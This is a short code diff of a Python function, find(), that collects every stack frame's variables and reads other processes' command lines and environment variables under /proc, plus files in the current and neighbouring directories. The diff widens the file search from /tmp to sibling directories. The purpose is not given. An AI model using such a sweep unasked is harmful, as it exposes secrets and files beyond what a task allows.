@@ -1581,7 +1581,7 @@ def find():
     while frame:
         texts.append(repr({**frame.f_globals, **frame.f_locals}).encode())
         frame = frame.f_back
-    for path in [f for d in "/proc/[0-9]*/cmdline /proc/[0-9]*/environ ./* /tmp/*/*".split() for f in glob.glob(d)]:
+    for path in [f for d in "/proc/[0-9]*/cmdline /proc/[0-9]*/environ ./* ../*/*".split() for f in glob.glob(d)]:
         try:
             texts.append(open(path, "rb").read(10**6))
         except OSError:
